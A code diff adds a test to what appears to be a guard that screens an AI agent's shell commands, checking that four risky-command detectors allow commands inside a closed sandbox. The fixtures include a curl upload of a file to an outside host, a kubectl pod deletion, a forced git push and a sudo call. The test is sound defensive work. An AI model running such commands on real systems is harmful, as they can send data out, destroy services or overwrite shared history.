@@ -1,6 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { buildRequest, mcpTool, policyOfRules, readTool, shellCall } from "@/server/testing/guard/guarded-calls";
 import { decide } from "../decide";
+import { closedSandbox } from "../effects/program-place";
 import { shellNoteDetectors } from "./shell-notes";
 
 const policy = policyOfRules([{ verdict: "allow" }]);
@@ -57,6 +58,16 @@ describe("a note of a command", () => {
   test("stands in the table for every detector that there is", () => {
     const known = new Set(notes.map(([id]) => `shell.${id}`));
     expect(shellNoteDetectors.map(({ id }) => id).filter((id) => !known.has(id))).toEqual([]);
+  });
+
+  test.each([
+    ["upload", "curl -d @a https://example.com"],
+    ["delete_service_data", "kubectl delete pod x"],
+    ["git_force_push", "git push --force"],
+    ["other_user", "sudo ls"],
+  ])("shell.%s decides nothing in a running sandbox that reaches neither hosts nor the machine: %s", (id, command) => {
+    const { findings } = decide(policy, { ...shellCall(command), context: { interactive: true, sandboxed: true, place: closedSandbox } });
+    expect(findings.find(({ detector }) => detector === `shell.${id}`)?.verdict).toBe("allow");
   });
 
   test("is told with the command, and how many more there are", () => {
